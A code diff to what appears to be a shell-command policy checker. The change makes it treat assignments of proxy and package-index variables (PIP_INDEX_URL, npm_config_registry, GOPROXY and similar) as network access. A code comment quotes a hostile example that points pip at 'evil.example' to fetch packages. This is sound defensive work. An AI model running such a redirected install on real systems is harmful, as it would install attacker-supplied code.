@@ -20,19 +20,31 @@ from __future__ import annotations
 import re
 from collections.abc import Iterable, Mapping, Sequence
 
-from exomonad.policy.actions import Action, Network
+from exomonad.policy.actions import Network
 from exomonad.policy.hosts import host_of
-from exomonad.policy.shell_env import ShellEnv
 from exomonad.policy.shell_lex import Word
 
-__all__ = ["assigned_proxies", "option_routes", "proxy_words", "through_proxies"]
+__all__ = ["assigned_proxies", "option_routes", "proxy_words"]
 
 #: Options whose value is a proxy's URL or ``host[:port]`` (and curl's ``-x``).
 _PROXIES = frozenset({"--proxy", "--preproxy", "--doh-url", "--socks4", "--socks4a",
                       "--socks5", "--socks5-hostname", "--all-proxy", "--http-proxy",
                       "--https-proxy", "--ftp-proxy"})  # fmt: skip
-#: Variables naming a proxy that curl, wget, git, pip and most other clients honour.
-_PROXY_SET = re.compile(r"(?<![A-Za-z0-9_])(?:http|https|ftp|all|socks)_proxy=(.*)", re.I | re.S)
+#: An assignment (``NAME=VALUE``, ``NAME+=VALUE``) anywhere in a word.
+_ASSIGNED = re.compile(r"(?<![A-Za-z0-9_])([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)", re.S)
+#: Variables naming where package managers fetch from (found reviewing: ``PIP_INDEX_URL=
+#: http://evil.example/simple pip install requests``, ``npm_config_registry=``, ``GOPROXY=``
+#: were allowed as plain installs); any variable whose name ends in ``proxy`` names a
+#: proxy (``https_proxy``, ``PIP_PROXY``, ``npm_config_https_proxy``), but ``no_proxy``.
+_INDEXES = re.compile(
+    r"(?:pip|uv)_(?:extra_)?index(?:_url)?|(?:pip|uv)_find_links|uv_default_index"
+    r"|npm_config_registry|yarn_(?:npm_)?registry(?:_server)?|go(?:proxy|sumdb)"
+    r"|pipenv_pypi_mirror|cargo_registries_\w+_index|poetry_repositories_\w+_url"
+    r"|conda_channel_alias|bundle_mirror__\w+",
+    re.IGNORECASE,
+)
+#: Values of those variables that name no host.
+_NO_HOST = frozenset({"", "direct", "off", "none", "false"})
 #: wget's ``-e``/``--execute`` commands naming a proxy.
 _WGET_PROXY = re.compile(r"\s*(?:http|https|ftp)_?proxy\s*=\s*(.*)", re.I | re.S)
 
@@ -97,23 +109,30 @@ def proxy_words(args: Sequence[Word]) -> list[Network]:
 
 
 def assigned_proxies(words: Iterable[Word]) -> list[Network]:
-    """The proxies a command line assigns (``https_proxy=h cmd``, ``export
-    ALL_PROXY=h``), which every later client on it may send its traffic through."""
+    """The proxies and package indexes a command line assigns (``https_proxy=h cmd``,
+    ``export ALL_PROXY=h``, ``PIP_INDEX_URL=URL``), which any later command on it may
+    send its traffic to: network access to each (an unknown host for a value known only
+    at run time).
+
+    >>> [n.host for n in assigned_proxies([Word("GOPROXY=https://g.example,direct")])]
+    ['g.example']
+    >>> assigned_proxies([Word("no_proxy=localhost"), Word("DATABASE_URL=pg://db/x")])
+    []
+    """
     out = []
     for w in words:
-        found = _PROXY_SET.search(w.text)
-        if found is not None:
-            out.append(_host(found.group(1), w.dynamic))
+        found = _ASSIGNED.search(w.text)
+        if found is None:
+            continue
+        name, value = found.group(1).lower(), found.group(2)
+        if name.endswith("proxy") and name != "no_proxy" and not _INDEXES.fullmatch(name):
+            out.append(_host(value, w.dynamic))
+        elif _INDEXES.fullmatch(name):
+            parts = [p for p in re.split(r"[\s,|]+", value) if p.lower() not in _NO_HOST]
+            out += [_host(p, w.dynamic) for p in parts] or ([Network(None)] if w.dynamic else [])
     return _once(out)
 
 
 def _once(hosts: list[Network]) -> list[Network]:
     """``hosts`` without repeats, in order."""
     return list(dict.fromkeys(hosts))
-
-
-def through_proxies(actions: list[Action], env: ShellEnv) -> list[Network]:
-    """The proxies the line assigned, for a command whose ``actions`` reach a host."""
-    if not env.proxies or not any(isinstance(a, Network) for a in actions):
-        return []
-    return [p for p in env.proxies if p not in actions]
